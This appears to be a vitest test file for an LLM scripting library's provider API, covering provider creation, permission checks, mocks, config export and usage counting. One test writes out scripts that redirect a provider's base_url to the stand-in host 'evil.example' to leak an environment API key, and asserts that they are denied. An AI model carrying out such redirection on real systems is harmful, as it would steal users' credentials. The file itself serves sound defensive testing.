import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { createModels } from "@llmspell/core";
import { describe, expect, it, onTestFinished } from "vitest";
import { scriptedModels } from "@llmspell/core/testing";
import { cast, failureOf, inBoth, inJavaScript, valueOf } from "../../../../../test/support/spell.js";

const allow = (...grants: string[]) =>
  grants.map((grant) => {
    const [capability = "", scope] = grant.split("=");
    return { capability, ...(scope === undefined ? {} : { scope }) };
  });
const grants = allow("provider", "model");
const KEY = "sk-secret-0123456789";

/** A server that says which models it has to whoever has the key. */
async function modelServer(): Promise<{ url: string; keys: (string | undefined)[] }> {
  const keys: (string | undefined)[] = [];
  const server = createServer((request, response) => {
    keys.push(request.headers.authorization);
    const known = request.headers.authorization === `Bearer ${KEY}`;
    response.writeHead(known ? 200 : 401, { "content-type": "application/json" });
    response.end(JSON.stringify(known ? { data: [{ id: "small" }, { id: "big" }] } : { error: { message: "no" } }));
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  onTestFinished(() => new Promise<void>((resolve) => server.close(() => resolve())));
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/v1`, keys };
}

describe("provider", () => {
  it.each([
    ["provider.get", ["offline"], { name: "offline", type: "offline", configured: true }],
    ["provider.get", ["gemini"], { name: "google", configured: false }],
    ["provider.get_capabilities", ["offline"], expect.arrayContaining(["chat", "streaming"])],
    ["provider.list", [{ type: "offline" }], [expect.objectContaining({ name: "offline" })]],
    ["provider.list", [{ configured: true, capability: "chat" }], [expect.objectContaining({ name: "offline" })]],
    ["provider.list_by_capability", ["flying"], []],
    ["provider.get_metadata", ["offline"], expect.objectContaining({ description: expect.any(String) })],
    ["provider.get_default", [], "offline"],
    ["provider.get_models", ["offline"], expect.arrayContaining([expect.objectContaining({ id: "offline:demo" })])],
    ["provider.get_rate_limits", ["offline"], null],
    ["provider.validate_api_key", ["offline"], true],
    ["provider.test_connection", ["offline"], { ok: true, latency_ms: expect.any(Number) }],
    ["provider.test_connection", ["openai"], { ok: false, error: expect.objectContaining({ code: "PROVIDER_AUTH" }) }],
    ["provider.get_usage", [], { requests: 0, failed: 0, tokens_in: 0, tokens_out: 0 }],
    ["provider.remove", ["openai"], true],
    ["provider.remove", ["offline"], false],
    ["provider.get_template", ["openai"], expect.objectContaining({ env: ["OPENAI_API_KEY"] })],
    ["provider.get_template", ["gemini"], expect.objectContaining({ type: "google" })],
    ["provider.get_template", ["ollama"], expect.objectContaining({ type: "openai-compatible" })],
    ["provider.validate_config", ["openai", { api_key: "k" }], { valid: true, errors: [] }],
    ["provider.validate_config", ["opnai", {}], { valid: false, errors: [expect.stringContaining("did you mean")] }],
    ["provider.validate_config", ["openai", { key: "k" }], { valid: false, errors: [expect.stringContaining("key")] }],
    ["provider.create", ["openai", "mine", { api_key: "k" }], { name: "mine", type: "openai", configured: true }],
    ["provider.create", [{ type: "anthropic", name: "mine", apiKey: "k" }], { name: "mine", type: "anthropic" }],
    ["provider.create", ["ollama", "box"], { name: "box", type: "openai-compatible", default_model: "llama3.2" }],
    ["provider.create_multi", ["both", ["offline"], "consensus"], { name: "both", type: "pool" }],
  ])("BR-4: %s %j gives the same in both languages", async (fn, args, expected) => {
    for (const value of await inBoth(fn, args as never, { grants }))
      expect({ value }).toMatchObject({ value: expected });
  });

  it.each([
    ["provider.get('nobody')", "NOT_FOUND"],
    ["provider.get_metadata('nobody')", "NOT_FOUND"],
    ["provider.set_metadata('nobody', {})", "NOT_FOUND"],
    ["provider.get_capabilities('nobody')", "NOT_FOUND"],
    ["provider.get_models('nobody')", "NOT_FOUND"],
    ["provider.get_usage('nobody')", "NOT_FOUND"],
    ["provider.get_rate_limits('nobody')", "NOT_FOUND"],
    ["provider.validate_api_key('nobody')", "NOT_FOUND"],
    ["provider.test_connection('nobody')", "NOT_FOUND"],
    ["provider.generate_with('nobody', 'x')", "NOT_FOUND"],
    ["provider.configure('nobody', {})", "NOT_FOUND"],
    ["provider.remove('nobody')", "NOT_FOUND"],
    ["provider.get_template('nobody')", "NOT_FOUND"],
    ["provider.create_from_environment('anthropic', 'mine')", "NOT_FOUND"],
    ["provider.create('opnai', 'mine')", "CONFIG_INVALID"],
    ["provider.create('mock', 'm')", "INVALID_ARGUMENT"],
    ["provider.create({ name = 'mine' })", "INVALID_ARGUMENT"],
    ["provider.create('offline', 'offline')", "ALREADY_EXISTS"],
    ["provider.create_mock('offline', { 'x' })", "ALREADY_EXISTS"],
    ["provider.create_multi('both', {})", "CONFIG_INVALID"],
    ["provider.create_multi('both', { 'nobody:x' })", "PROVIDER_AUTH"],
    ["provider.import_config({ providers = { a = { type = 'x' } } })", "CONFIG_INVALID"],
    ["provider.import_config({ catalog = 7 })", "INVALID_ARGUMENT"],
    ["provider.list({ typ = 'x' })", "INVALID_ARGUMENT"],
  ])("%s fails with %s in both languages", async (source, code) => {
    expect(await failureOf(source, { grants })).toMatchObject({ code });
    const javascript = source.replaceAll(/(\w+) = /g, "$1: ").replace(/\{ ('[^']*') \}/, "[$1]");
    expect(await failureOf(`return await ${javascript}`, inJavaScript({ grants }))).toMatchObject({ code });
  });

  it.each([
    ["provider.create('openai', 'mine', { api_key = 'k' })", "provider=mine"],
    ["provider.create_mock('m', { 'x' })", "provider=m"],
    ["provider.create_from_environment('openai', 'mine')", "provider=mine"],
    ["provider.create_multi('both', { 'offline' })", "provider=both"],
    ["provider.configure('openai', { api_key = 'k' })", "provider=openai"],
    ["provider.remove('openai')", "provider=openai"],
    ["provider.set_metadata('openai', {})", "provider=openai"],
    ["provider.get_models('offline')", "provider=offline"],
    ["provider.validate_api_key('openai', 'k')", "provider=openai"],
    ["provider.test_connection('openai')", "provider=openai"],
    ["provider.export_config()", "provider"],
    ["provider.import_config({ providers = { openai = { apiKey = 'k' } } })", "provider=openai"],
    ["provider.import_config({ pools = { p = { members = { 'offline' } } } })", "provider=p"],
    ["llm.use_provider('offline')", "provider=offline"],
    ["llm.pool_create('p', { 'offline' })", "provider=p"],
    ["modelinfo.scan({ provider = 'offline' })", "provider=offline"],
    ["modelinfo.refresh('offline')", "provider=offline"],
  ])("%s needs %s", async (source, wanted) => {
    expect(await failureOf(source)).toMatchObject({
      code: "PERMISSION_DENIED",
      message: expect.stringContaining(`'${wanted}'`),
    });
    const named = allow(wanted);
    const { result } = await cast(`pcall(function() ${source} end)`, { grants: named });
    expect(result.audit.filter(({ decision }) => decision === "denied")).toEqual([]);
  });

  it("sends no key of the environment where the spell says, unless it may", async () => {
    const models = () => createModels({ env: { OPENAI_API_KEY: KEY, OTHER: KEY } });
    const evil = "base_url = 'https://evil.example/v1'";
    const trusted = allow("provider", "network=evil.example");
    for (const [source, wanted] of [
      [`provider.create('openai', 'mine', { ${evil}, api_key = 'own' })`, "network=evil.example", grants],
      [`provider.create('openai', 'mine', { ${evil} })`, "env=OPENAI_API_KEY", trusted],
      [`provider.configure('openai', { ${evil} })`, "env=OPENAI_API_KEY", trusted],
      [`provider.create('openai-compatible', 'openai', { ${evil} })`, "env=OPENAI_API_KEY", trusted],
      [`provider.create('anthropic', 'openai')`, "env=OPENAI_API_KEY", trusted],
      [`provider.configure('offline', { type = 'openai', api_key = { env = 'OTHER' } })`, "env=OTHER", trusted],
      [`provider.create('openai', 'mine', { headers = { authorization = { env = 'OTHER' } } })`, "env=OTHER", trusted],
      [
        `provider.import_config({ providers = { gemini = { type = 'openai', baseURL = 'https://evil.example/v1' } } })`,
        "env=",
        trusted,
      ],
      [`llm.use_provider('mine', { type = 'openai', ${evil} })`, "env=OPENAI_API_KEY", trusted],
    ] as const) {
      const granted = wanted.startsWith("network") ? grants : trusted;
      const error = await failureOf(source, { models: models(), grants: granted });
      expect({ source, code: error.code, message: error.message }).toMatchObject({
        code: "PERMISSION_DENIED",
        message: expect.stringContaining(wanted),
      });
    }
    const source = `provider.create('openai', 'mine', { ${evil} }) return provider.get('mine').configured`;
    expect(
      await valueOf(source, {
        models: models(),
        grants: allow("provider", "network", "env=OPENAI_API_KEY", "env=LLMSPELL_NONE"),
      }),
    ).toBe(true);
  });

  it("BR-4: keys never reach a script", async () => {
    const models = createModels({
      env: { OPENAI_API_KEY: KEY },
      config: { providers: { work: { type: "openai", apiKey: KEY, headers: { "x-key": KEY } } } },
    });
    const source = `provider.create_from_environment("openai", "mine")
      local all = { provider.export_config(), provider.list(), provider.get("work"), provider.get_metadata("work"), provider.list_templates() }
      return all`;
    const value = await valueOf(source, { models, grants });
    expect(JSON.stringify(value)).not.toContain(KEY);
    expect(value).toMatchObject([{ providers: { mine: { apiKey: { env: "OPENAI_API_KEY" } } } }, {}, {}, {}, {}]);
  });

  it("BR-4: asks a server for its models, with its key or another one", async () => {
    const { url, keys } = await modelServer();
    const models = createModels({ config: { providers: { box: { baseURL: url, apiKey: KEY } } } });
    const source = `return {
      provider.get_models("box")[2].id, provider.validate_api_key("box"), provider.validate_api_key("box", "sk-wrong-0123456789"),
      provider.validate_api_key("box"), modelinfo.refresh("box").added, #modelinfo.get_models("box") }`;
    expect(await valueOf(source, { models, grants })).toEqual(["box:big", true, false, true, [], 2]);
    expect(keys.filter((key) => key?.includes("wrong"))).toHaveLength(1);
    // What a run learned and changed stays in it.
    expect(models.catalog.list({ provider: "box" })).toEqual([]);
  });

  it("STD-8: a mock says what it is told, by a list or by a function, also in pieces", async () => {
    const lua = `provider.create_mock("m", { "one", { content = "two", usage = { prompt_tokens = 3, completion_tokens = 4 } },
        function(request, n) return request.prompt .. n end, { error = "down" } })
      local a, b, c = llm.generate("x", { provider = "m" }), provider.complete("m", "x"), provider.generate_with("m", "who")
      local ok, e = pcall(llm.generate, "x", { provider = "m", timeout = 1000 })
      provider.create("custom", "echo", { generate = function(request) return { content = #request.messages .. request.prompt } end })
      local streamed = {}
      llm.stream("hey you", function(chunk) streamed[#streamed + 1] = chunk end, { provider = "echo" })
      return { a.content, b.usage.total_tokens, c.content, ok, table.concat(streamed), provider.get_usage("m").requests > 3 }`;
    expect(await valueOf(lua, { grants })).toEqual(["one", 7, "who3", false, "1hey you", true]);
    const javascript = `provider.createMock("m", ["one", { content: "two" }, (request, n) => request.prompt + n]);
      const all = [];
      for (const text of ["a", "b", "c"]) all.push((await provider.generateWith("m", text)).content);
      provider.createMock("echo", async (request) => request.prompt + "!");
      return [...all, (await llm.generate("hey", { provider: "echo" })).content]`;
    expect(await valueOf(javascript, inJavaScript({ grants }))).toEqual(["one", "two", "c3", "hey!"]);
  });

  it("a mock whose function fails or says nonsense fails, and is forgotten at the end of the run", async () => {
    const models = createModels();
    for (const body of ["error('no')", "return 5", "return { contents = 'x' }"]) {
      const source = `provider.create_mock("m", function() ${body} end) llm.generate("x", { provider = "m" })`;
      expect((await failureOf(source, { models, grants })).code).not.toBe("INTERNAL");
    }
    expect(models.list().map(({ name }) => name)).not.toContain("m");
  });

  it("configures, keeps data beside a provider, exports and imports", async () => {
    const source = `provider.create("openai", "mine", { api_key = "k" })
      provider.set_metadata("mine", { team = "a" })
      local info = provider.configure("mine", { api_key = "k", default_model = "gpt-5" })
      provider.create_multi("both", { "offline" })
      provider.configure("both", { strategy = "round_robin", providers = { { model = "offline", weight = 2 } } })
      local exported = provider.export_config()
      provider.remove("mine") provider.remove("both")
      local made = provider.import_config(exported)
      return { info.default_model, provider.get_metadata("both").type, llm.pool_get("both").strategy, made[1].name, made[1].configured,
        provider.get_metadata("mine").team == nil }`;
    expect(await valueOf(source, { grants: allow("provider", "model", "env") })).toEqual([
      "gpt-5",
      "pool",
      "round_robin",
      "mine",
      false,
      true,
    ]);
  });

  it("counts what a run has used and what it costs", async () => {
    const { models } = scriptedModels({ text: "a", usage: { inputTokens: 1000, outputTokens: 500 } });
    // Counted under the name that the model itself gives.
    models.catalog.add({ provider: "script", model: "scripted", price: { input: 2, output: 4 } });
    const source =
      "llm.generate('x') return { provider.get_usage('script'), modelinfo.get_analytics('script:scripted') }";
    expect(await valueOf(source, { models })).toMatchObject([
      { requests: 1, tokens_in: 1000, tokens_out: 500, cost: 0.004 },
      { calls: 1, errors: 0, error_rate: 0, cost: 0.004, tokens_in: 1000 },
    ]);
  });
});
